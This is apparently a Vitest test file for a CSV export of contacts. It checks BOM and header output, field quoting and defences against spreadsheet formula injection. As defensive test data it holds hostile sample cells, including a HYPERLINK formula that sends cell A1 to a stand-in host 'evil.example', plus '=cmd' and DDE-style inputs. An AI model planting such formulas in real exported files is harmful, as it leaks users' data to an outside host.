import { describe, expect, it } from 'vitest';
import { contactsToCsv } from '../../src/modules/contacts/contacts-csv.js';

const HEADER = 'First name,Last name,Phone number,Email,Company,Tags,Favorite,Notes,Created\r\n';

const jean = {
  firstName: 'Jean',
  lastName: 'Dupont',
  phoneNumber: '+33612345678',
  email: 'jean@dupont.fr',
  company: 'Dupont & Fils',
  notes: 'Appeler le matin',
  tags: ['clients', 'lyon'],
  isFavorite: true,
  createdAt: new Date('2024-03-01T10:15:00Z'),
};

/** The data rows, without the BOM and the header. */
const rows = (csv: string) => csv.slice(`\uFEFF${HEADER}`.length);

describe('contactsToCsv', () => {
  it('starts with a BOM and the header, then one CRLF-ended row per contact', () => {
    const sansNames = { ...jean, firstName: null, lastName: null, email: null, company: null, notes: null, tags: [] };
    expect(contactsToCsv([jean, { ...sansNames, isFavorite: false }])).toBe(
      `\uFEFF${HEADER}` +
        'Jean,Dupont,+33612345678,jean@dupont.fr,Dupont & Fils,clients; lyon,yes,Appeler le matin,2024-03-01T10:15:00.000Z\r\n' +
        ',,+33612345678,,,,no,,2024-03-01T10:15:00.000Z\r\n',
    );
    expect(contactsToCsv([])).toBe(`\uFEFF${HEADER}`);
  });

  it('quotes a field holding a comma, a quote or a line break, doubling its quotes', () => {
    const csv = contactsToCsv([
      { ...jean, company: 'Dupont, Fils & "Cie"', notes: 'Ligne 1\r\nLigne 2\nLigne 3', lastName: 'Hélène 😀' },
    ]);
    expect(rows(csv)).toBe(
      'Jean,Hélène 😀,+33612345678,jean@dupont.fr,"Dupont, Fils & ""Cie""",clients; lyon,yes,' +
        '"Ligne 1\r\nLigne 2\nLigne 3",2024-03-01T10:15:00.000Z\r\n',
    );
  });

  it('makes a cell that a spreadsheet would run as a formula start with a single quote', () => {
    const csv = contactsToCsv([
      {
        ...jean,
        firstName: '-Bob',
        lastName: '@SUM(A1:A9)',
        email: '+x@example.com',
        company: '\tTab',
        tags: ['=cmd', 'vip'],
        notes: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      },
    ]);
    expect(rows(csv)).toBe(
      "'-Bob,'@SUM(A1:A9),+33612345678,'+x@example.com,'\tTab,'=cmd; vip,yes," +
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",2024-03-01T10:15:00.000Z\r\n',
    );
    expect(rows(contactsToCsv([{ ...jean, notes: '\rDDE' }]))).toContain(`,"'\rDDE",`);
  });

  it('leaves an E.164 number alone but guards any other number starting like a formula', () => {
    const phoneCell = (phoneNumber: string) => rows(contactsToCsv([{ ...jean, phoneNumber }])).split(',')[2];
    expect(phoneCell('+33612345678')).toBe('+33612345678');
    expect(phoneCell('+14155550100')).toBe('+14155550100');
    expect(phoneCell('+33 6 12 34 56 78')).toBe("'+33 6 12 34 56 78");
    expect(phoneCell('+1+1')).toBe("'+1+1");
    expect(phoneCell('-1')).toBe("'-1");
    expect(phoneCell('=1+1')).toBe("'=1+1");
  });

  it('leaves text that merely contains those characters alone', () => {
    const csv = contactsToCsv([{ ...jean, firstName: 'Jean-Paul', notes: 'a = b + c @ d' }]);
    expect(rows(csv)).toMatch(/^Jean-Paul,.*,a = b \+ c @ d,/);
  });
});
